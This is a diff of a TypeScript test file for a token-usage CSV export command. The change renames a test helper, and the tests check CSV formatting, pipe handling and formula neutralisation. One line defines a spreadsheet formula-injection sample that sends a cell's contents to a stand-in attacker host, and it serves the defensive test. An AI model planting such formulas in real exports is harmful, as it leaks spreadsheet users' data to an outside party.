@@ -17,13 +17,13 @@ import { join } from 'node:path';
 import type { Database, NewToken, Use } from '@tokenhouse/core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { at, aUse, NOW, storeToken } from '../../../../test/support/samples.ts';
-import { type CommandHouse, openCommandHouse } from '../support/command-house.ts';
 import { BIN } from '../support/run-command.ts';
+import { openTestSite, type TestSite } from '../support/test-site.ts';
 
 const HEADER = 'id,at,tokenId,tokenName,userId,outcome,endpoint,ipAddress,userAgent,client,count';
 
 describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s', (name) => {
-  let house: CommandHouse;
+  let site: TestSite;
   let database: Database;
   let token: NewToken;
   let busy: NewToken;
@@ -31,8 +31,8 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
   const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
   beforeAll(async () => {
     folder = await mkdtemp(join(tmpdir(), 'tokenhouse-export-'));
-    house = await openCommandHouse(name);
-    database = await house.openDatabase();
+    site = await openTestSite(name);
+    database = await site.openDatabase();
     await database.maintain(NOW);
     token = await storeToken(database.tokens, { name: 'CI, nightly', userId: 'ada' });
     busy = await storeToken(database.tokens, { userId: 'grace' });
@@ -47,11 +47,11 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
   });
   afterAll(async () => {
     await database.close();
-    await house.close();
+    await site.close();
     await rm(folder, { recursive: true, force: true });
   });
 
-  const exported = (...args: string[]) => house.run(['usage', 'export', ...args]);
+  const exported = (...args: string[]) => site.run(['usage', 'export', ...args]);
 
   test('--format csv: RFC 4180, RFC 3339 timestamps, and no formulas', async () => {
     const { code, stdout, stderr } = await exported('--token', token.id.toUpperCase(), '--format', 'csv');
@@ -120,7 +120,7 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
 
   test('--output writes directly to a pipe, and replaces nothing in /dev', async () => {
     const command = `"${process.execPath}" "${BIN}" usage export --token ${token.id} --format csv --output /dev/stdout | cat`;
-    const env = { PATH: process.env['PATH'], ...house.env };
+    const env = { PATH: process.env['PATH'], ...site.env };
     expect(spawnSync('sh', ['-c', command], { env, encoding: 'utf8' }).stdout).toMatch(/^id,at,/);
     expect((await lstat('/dev/stdout')).isSymbolicLink()).toBe(true);
   });
@@ -141,7 +141,7 @@ describe.each(['SQLite', 'PostgreSQL'] as const)('tokenhouse usage export on %s'
 
   test('exits quietly when the reader of the pipe ends, as head does', async () => {
     const child = spawn(process.execPath, [BIN, 'usage', 'export', '--format', 'csv'], {
-      env: { PATH: process.env['PATH'], ...house.env },
+      env: { PATH: process.env['PATH'], ...site.env },
       stdio: ['ignore', 'pipe', 'pipe'],
     });
     let stderr = '';
